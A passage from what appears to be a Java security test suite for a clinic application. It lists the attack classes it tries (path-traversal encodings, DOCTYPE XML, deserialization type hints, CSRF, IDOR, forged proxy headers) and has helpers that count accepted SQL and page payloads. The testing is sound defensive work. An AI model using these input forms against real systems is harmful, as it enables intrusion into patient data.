				which the chart and the patient list must show escaped and unevaluated; every web state
				change posted without a CSRF token (403, audit trail unchanged); path tricks on the
				public survey links (`%%2e%%2e`, double encoding, overlong UTF-8, `;jsessionid`, NUL,
				overlong tokens); XML with a DOCTYPE, Java-serialised bodies and polymorphic type hints
				(`@class`, `@type`, `["java.util.HashMap", …]`) posted to the JSON endpoints, including
				the instrument import; oversized and deeply nested JSON; privilege escalation by an
				administrator of one clinic (more roles or clinics for itself, another clinic for its
				users, another clinic's accounts, passwords, second factors and clinic, a new clinic,
				an installation administrator made by giving ADMIN without a clinic), through the API
				and the pages; values of another type or that cannot be stored, aimed at every field of every JSON endpoint found in the handler
				mappings (a number for an enum, a boolean or a date, `1e400` as a time, text for a
				number, years 0000 and 9999, a lone surrogate, NUL, control characters, zero-width-only
				text, a key sent twice), each of which must be a 400 (422 for a date out of range)
				naming the field; ids in a request body (a
				follow-up, procedure, product or medicine) of another clinic, another patient, made up, or
				of a finished record (a cancelled follow-up, a discarded product), each refused with rows
				unchanged; forged `X-Forwarded-For` from a client that is not a trusted proxy (neither the
				audit trail's address nor the survey rate limit's key may change) and forged `Host` /
				`X-Forwarded-Host` (survey links keep the configured public address). IDOR on every id-taking
				endpoint, exports included (labels, letters, notes), is covered by the authorisation
				matrix above.

				Not covered: SpineCell has no file upload yet, so there are no file names to attack; the
				payload lists are fixed, not generated (see the fuzz tests for generated input).
				""".formatted(TALLY.table(), figure, TALLY.attempts));
	}

	private void expectNothingFound(String kind, String endpoint, HttpResponse<String> response, String field) {
		boolean accepted;
		if (response.statusCode() == 200) {
			accepted = json(response).get(field).size() != 0;
		}
		else {
			accepted = response.statusCode() >= 500 || response.statusCode() < 400;
		}
		TALLY.attempt("sql", kind + ": " + response.uri().getRawQuery(), endpoint, accepted);
	}

	private static void page(ActorClient as, String kind, String payload, String page, String encoded) {
		HttpResponse<String> response = as.get(page + encoded);
		boolean accepted = response.statusCode() >= 500 || response.body().contains("SQLState")
				|| response.body().contains("PSQLException") || response.body().contains("Exception");
		TALLY.attempt(kind, payload, "GET " + page.substring(0, page.indexOf('?') + 1) + page.substring(page.indexOf('?') + 1,
				page.length() - 1), accepted);
	}

	/** Every POST of the pages, from the handler mappings. */
	private List<String> webStateChanges() {
		Set<String> all = new TreeSet<>();
		for (RequestMappingInfo info : mappings.getHandlerMethods().keySet()) {
			for (String pattern : info.getPatternValues()) {
				for (RequestMethod method : info.getMethodsCondition().getMethods()) {
					if (method != RequestMethod.GET && !pattern.startsWith("/api/")) {
						all.add(method.name() + " " + pattern);
					}
				}
			}
		}
		return List.copyOf(all);
	}

	private long count(String table) {
		return ownerJdbc().sql("SELECT count(*) FROM " + table).query(Long.class).single();
	}

	private static tools.jackson.databind.JsonNode json(HttpResponse<String> response) {
		return new TestApi.Response(response.statusCode(), response.body(), response).json();
	}

	/** The count of attempts: payloads, endpoints, and the accepted ones. */
	static final class Tally {

		private final Set<String> payloads = new TreeSet<>();

		private final Set<String> endpoints = new TreeSet<>();

		private final List<String> accepted = new ArrayList<>();

		private final Map<String, Integer> byClass = new LinkedHashMap<>();

		private int attempts;

		synchronized void attempt(String kind, String payload, String endpoint, boolean wasAccepted) {
			payloads.add(kind + ":" + payload);
			endpoints.add(endpoint);
			byClass.merge(kind, 1, Integer::sum);
			attempts++;
			if (wasAccepted) {
				accepted.add(kind + " | " + payload + " | " + endpoint);
			}
		}

		synchronized List<String> acceptedOf(String kind) {
			return accepted.stream().filter(a -> a.startsWith(kind + " |")).toList();
		}

		synchronized List<String> accepted() {
			return List.copyOf(accepted);
		}

		int payloads() {
			return payloads.size();
		}

		int endpoints() {
			return endpoints.size();
		}

		String table() {
			StringBuilder rows = new StringBuilder();
			byClass.forEach((kind, n) -> rows.append("| ").append(kind).append(" | ").append(n).append(" |\n"));
			return rows.toString().strip();
		}

	}

}
